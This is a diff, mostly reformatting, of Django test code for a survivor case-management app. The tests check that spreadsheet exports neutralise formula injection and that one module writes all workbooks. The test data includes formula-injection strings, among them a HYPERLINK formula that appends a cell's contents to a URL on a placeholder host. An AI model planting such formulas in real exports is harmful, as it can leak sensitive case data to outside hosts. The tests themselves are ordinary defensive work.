@@ -22,29 +22,54 @@ from tests.factories import ConsentFactory, GoalFactory, SurvivorFactory
 
 pytestmark = pytest.mark.django_db
 
-HOSTILE = ['=HYPERLINK("http://example.org/?"&A1,"Open")', "+254700000000", "-2+3", "@SUM(A1:A9)", "=1+1"]
+HOSTILE = [
+    '=HYPERLINK("http://example.org/?"&A1,"Open")',
+    "+254700000000",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "=1+1",
+]
 
 
 def formula_cells(content: bytes) -> list[str]:
     book = openpyxl.load_workbook(io.BytesIO(content))
-    return [f"{sheet.title}!{cell.coordinate}" for sheet in book.worksheets for row in sheet.iter_rows() for cell in row
-            if cell.data_type == "f"]
+    return [
+        f"{sheet.title}!{cell.coordinate}"
+        for sheet in book.worksheets
+        for row in sheet.iter_rows()
+        for cell in row
+        if cell.data_type == "f"
+    ]
 
 
 def test_the_htcds_export_writes_hostile_text_as_text(org_a):
     org_a.name = HOSTILE[3]
     org_a.save()
-    survivor = SurvivorFactory(organisation=org_a, given_name=HOSTILE[0], family_name=HOSTILE[4], id_number=HOSTILE[2],
-                               phone=HOSTILE[1])
+    survivor = SurvivorFactory(
+        organisation=org_a,
+        given_name=HOSTILE[0],
+        family_name=HOSTILE[4],
+        id_number=HOSTILE[2],
+        phone=HOSTILE[1],
+    )
     ConsentFactory(survivor=survivor, purpose="referral", granted=True, method="verbal")
     GoalFactory(survivor=survivor, domain="housing", description=HOSTILE[4], actions=HOSTILE[3])
     content = exporter.to_xlsx(exporter.export_cases(actor(member(org_a, Role.SUPERVISOR))))
     assert formula_cells(content) == []
     book = openpyxl.load_workbook(io.BytesIO(content))
-    cases = {cell.value: book["Cases"].cell(row=3, column=cell.column).value for cell in book["Cases"][1]}
-    assert (cases["org_Name"], cases["prs_FirstName"], cases["prs_SecondName"], cases["aft_IdNumber"]) == (
-        HOSTILE[3], HOSTILE[0], HOSTILE[4], HOSTILE[2])
-    plan = {cell.value: book["SupportPlan"].cell(row=3, column=cell.column).value for cell in book["SupportPlan"][1]}
+    cases = {
+        cell.value: book["Cases"].cell(row=3, column=cell.column).value for cell in book["Cases"][1]
+    }
+    assert (
+        cases["org_Name"],
+        cases["prs_FirstName"],
+        cases["prs_SecondName"],
+        cases["aft_IdNumber"],
+    ) == (HOSTILE[3], HOSTILE[0], HOSTILE[4], HOSTILE[2])
+    plan = {
+        cell.value: book["SupportPlan"].cell(row=3, column=cell.column).value
+        for cell in book["SupportPlan"][1]
+    }
     assert (plan["spl_Objectives"], plan["spl_ActionPlan"]) == (HOSTILE[4], HOSTILE[3])
 
 
@@ -64,6 +89,11 @@ def test_every_workbook_is_written_by_the_one_writer():
     """No module but core/spreadsheets.py makes or saves a workbook itself."""
     root = Path(settings.BASE_DIR) / "aftercare"
     makers = re.compile(r"\bWorkbook\(|\.save\((out|buffer|io\.)")
-    found = [str(path.relative_to(root)) for path in root.rglob("*.py")
-             if path.name != "spreadsheets.py" and "migrations" not in path.parts and makers.search(path.read_text())]
+    found = [
+        str(path.relative_to(root))
+        for path in root.rglob("*.py")
+        if path.name != "spreadsheets.py"
+        and "migrations" not in path.parts
+        and makers.search(path.read_text())
+    ]
     assert found == []
